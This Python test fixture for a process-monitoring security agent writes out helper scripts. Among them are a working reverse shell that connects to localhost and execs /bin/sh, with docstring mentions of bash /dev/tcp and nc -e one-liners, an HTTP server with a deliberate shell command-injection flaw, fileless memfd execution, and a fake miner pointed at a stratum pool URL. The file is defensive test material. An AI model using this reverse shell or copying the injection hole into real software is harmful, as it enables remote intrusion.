"""Real attacks and a real benign workload for the security tests, as scripts a helper Python
process runs (so each one is a subtree of its own, apart from the test process, which holds the
in-process agent's listening socket and so is itself a "network server").

Each script's docstring says what it does; nothing here is simulated.
"""

from __future__ import annotations

from pathlib import Path

REVERSE_SHELL = '''
"""Connect to the listener, and in a forked child put the socket on fds 0-2 and exec a shell
(what `bash -i >& /dev/tcp/HOST/PORT 0>&1` or `nc -e /bin/sh` do)."""
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
pid = os.fork()
if pid == 0:
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-i"])
s.close()
os.waitpid(pid, 0)
'''

VULN_SERVER = '''
"""A network server with two flaws: /run?CMD runs CMD through a shell (command injection),
/probe?PORT runs netcat against a local port."""
import http.server, subprocess, sys, urllib.parse

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        url = urllib.parse.urlparse(self.path)
        arg = urllib.parse.unquote(url.query)
        if url.path == "/run":
            out = subprocess.run(arg, shell=True, capture_output=True).stdout
        elif url.path == "/probe":
            out = subprocess.run(["nc", "-z", "-w", "2", "127.0.0.1", arg],
                                 capture_output=True).stdout
        else:
            out = b"hello"
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    def log_message(self, *args):
        pass

server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
'''

DROPPED_BINARY = '''
"""Copy a binary into a fresh directory under /tmp and run it."""
import os, shutil, subprocess, tempfile
d = tempfile.mkdtemp(prefix="pw-sec-", dir="/tmp")
try:
    dst = os.path.join(d, "dropped")
    shutil.copy("/bin/true", dst)
    subprocess.run([dst], check=True)
finally:
    shutil.rmtree(d)
'''

MEMFD_EXEC = '''
"""Load a binary into an anonymous memfd and exec it through /proc/self/fd (fileless)."""
import os
fd = os.memfd_create("pw-fileless", 0)
with open("/bin/true", "rb") as f:
    os.write(fd, f.read())
os.execv(f"/proc/self/fd/{fd}", ["pw-fileless"])
'''

MINER = '''
"""A harmless binary renamed after a miner, started with a stratum pool URL and a password."""
import shutil, subprocess, sys
dst = sys.argv[1]
shutil.copy("/bin/true", dst)
subprocess.run([dst, "-o", "stratum+tcp://pool.example.com:3333", "-u", "wallet", "-p", "x"],
               check=True)
'''

KILL_VICTIM = '''
"""Run a kill rule's target (which would write a marker) next to ordinary execs."""
import subprocess, sys
victim, marker, other_marker = sys.argv[1:4]
killed = subprocess.run([victim, "-c", f"echo ran > {marker}"]).returncode
other = subprocess.run(["/bin/sh", "-c", f"echo ran > {other_marker}"]).returncode
trues = [subprocess.run(["/bin/true"]).returncode for _ in range(50)]
print(killed, other, sum(trues), len(trues), flush=True)
'''

CONNECTOR = '''
"""Connect to a port and close (the descendant whose connection an ancestor's rule catches)."""
import socket, sys
socket.create_connection(("127.0.0.1", int(sys.argv[1]))).close()
'''

C_SOURCES = {
    "main.c": '#include <stdio.h>\nint add(int, int);\nint mul(int, int);\n'
              'int main(void) { printf("%d\\n", add(2, mul(3, 4))); return 0; }\n',
    "add.c": "int add(int a, int b) { return a + b; }\n",
    "mul.c": "int mul(int a, int b) { return a * b; }\n",
    "Makefile": "prog: main.o add.o mul.o\n\tgcc -o $@ $^\n%.o: %.c\n\tgcc -O1 -c -o $@ $<\n"
                "clean:\n\trm -f prog *.o\n",
}

BENIGN = '''
"""An ordinary day's execs: shell loops, C builds with make and gcc, Python subprocesses."""
import os, subprocess, sys
build = sys.argv[1]
subprocess.run(["sh", "-c", "i=0; while [ $i -lt 1800 ]; do /bin/true; i=$((i+1)); done"],
               check=True)
subprocess.run(["bash", "-c", "for i in $(seq 1 300); do echo $i | cat > /dev/null; done"],
               check=True)
subprocess.run(["sh", "-c", "ls / | wc -l > /dev/null; date > /dev/null; uname -a > /dev/null"],
               check=True)
for _ in range(3):
    subprocess.run(["make", "-s", "-C", build, "clean"], check=True)
    subprocess.run(["make", "-s", "-C", build, "-j2"], check=True)
    subprocess.run(["./prog"], cwd=build, check=True, stdout=subprocess.DEVNULL)
for _ in range(60):
    subprocess.run([sys.executable, "-c", "import os; os.getpid()"], check=True)
'''


def write_scripts(directory: Path) -> dict[str, Path]:
    """Every script above as a file in `directory` (named after it, e.g. vuln_server.py),
    plus the C project the benign workload builds (in build/)."""
    out = {}
    for name, text in {"reverse_shell": REVERSE_SHELL, "vuln_server": VULN_SERVER,
                       "dropped_binary": DROPPED_BINARY, "memfd_exec": MEMFD_EXEC,
                       "miner": MINER, "kill_victim": KILL_VICTIM, "connector": CONNECTOR,
                       "benign": BENIGN}.items():
        path = directory / f"{name}.py"
        path.write_text(text.lstrip())
        out[name] = path
    build = directory / "build"
    build.mkdir(exist_ok=True)
    for name, text in C_SOURCES.items():
        (build / name).write_text(text)
    out["build"] = build
    return out
